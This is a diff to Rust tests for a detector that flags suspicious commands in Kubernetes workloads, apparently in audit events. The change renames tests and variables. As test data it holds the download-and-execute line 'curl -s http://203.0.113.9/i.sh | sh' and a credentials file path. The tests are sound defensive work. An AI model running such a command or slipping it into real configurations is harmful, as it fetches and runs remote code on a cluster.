@@ -23,7 +23,7 @@ fn commands_are_found_in_every_kind_of_workload() {
 }
 
 #[test]
-fn commands_are_found_wherever_they_stand() {
+fn commands_are_found_in_every_field() {
     let plain = || container("app", "nginx", &[]);
     let mut init = container("setup", "alpine", &DOWNLOAD);
     init.role = ContainerRole::Init;
@@ -33,7 +33,7 @@ fn commands_are_found_wherever_they_stand() {
     hook.hooks = vec![pair("lifecycle.postStart", &DOWNLOAD.join(" "))];
     let mut variable = plain();
     variable.environment = vec![pair("SCRIPT", DOWNLOAD[2])];
-    for (container, place) in [
+    for (container, field) in [
         (
             init,
             "requestObject.spec.template.spec.initContainers[0].command",
@@ -58,18 +58,18 @@ fn commands_are_found_wherever_they_stand() {
         assert_eq!(
             shown(&found),
             ["Execution:SuspiciousWorkloadCommand 6.0"],
-            "{place}"
+            "{field}"
         );
         assert_eq!(
-            found[0].evidence(place),
+            found[0].evidence(field),
             Some("curl -s http://203.0.113.9/i.sh | sh"),
-            "{place}"
+            "{field}"
         );
     }
 }
 
 #[test]
-fn variables_that_only_name_things_are_no_commands() {
+fn variables_with_file_names_are_not_commands() {
     let mut with = container("app", "velero", &[]);
     with.environment = vec![
         pair("AWS_SHARED_CREDENTIALS_FILE", "/root/.aws/credentials"),
@@ -86,7 +86,7 @@ fn variables_that_only_name_things_are_no_commands() {
 }
 
 #[test]
-fn what_was_there_before_is_no_news() {
+fn unchanged_commands_are_not_reported_again() {
     let mut harness = Harness::<SuspiciousWorkloads>::new().pod_spec(
         "deployments",
         "shop",
@@ -104,15 +104,18 @@ fn what_was_there_before_is_no_news() {
     ]));
     let found = harness.audit_event(other).unwrap();
     assert_eq!(shown(&found), ["Execution:SuspiciousWorkloadCommand 8.0"]);
-    // A robot that sends the whole object, of which the log has not told before.
-    let robot = request("update", "deployments", "shop", "api")
+    // A service account sends the whole object, whose previous state is unknown.
+    let sent_again = request("update", "deployments", "shop", "api")
         .user(ARGO)
         .workload(app(&DOWNLOAD));
-    assert_eq!(judge(robot), ["Execution:SuspiciousWorkloadCommand 3.0"]);
+    assert_eq!(
+        judge(sent_again),
+        ["Execution:SuspiciousWorkloadCommand 3.0"]
+    );
 }
 
 #[test]
-fn robots_that_make_the_same_pods_are_known_after_the_first() {
+fn similar_jobs_of_a_service_account_are_reported_once() {
     let mut harness = Harness::<SuspiciousWorkloads>::new();
     let job = |name: &str| {
         request("create", "jobs", "data", name)
